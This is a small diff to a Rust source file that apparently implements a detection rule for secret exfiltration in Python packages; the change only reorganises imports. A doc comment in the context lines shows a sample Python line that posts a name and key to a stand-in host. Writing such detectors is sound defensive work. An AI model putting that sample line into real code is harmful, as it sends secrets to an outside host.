@@ -28,11 +28,11 @@
 //!     requests.post('http://x.example.invalid', data={'n': name, 'k': key})
 //! ```
 
-use fondaco_python::Taint;
+use fondaco_python::{Taint, signs_in};
 use fondaco_verdict::{Behaviour, Confidence, RuleId, Severity};
 
 use super::secret_exfiltration::{of, takes_path};
-use crate::sending::{sent, signs_in};
+use crate::sending::sent;
 use crate::{Hits, Package, Rule};
 
 pub(crate) const RULE: Rule = Rule {
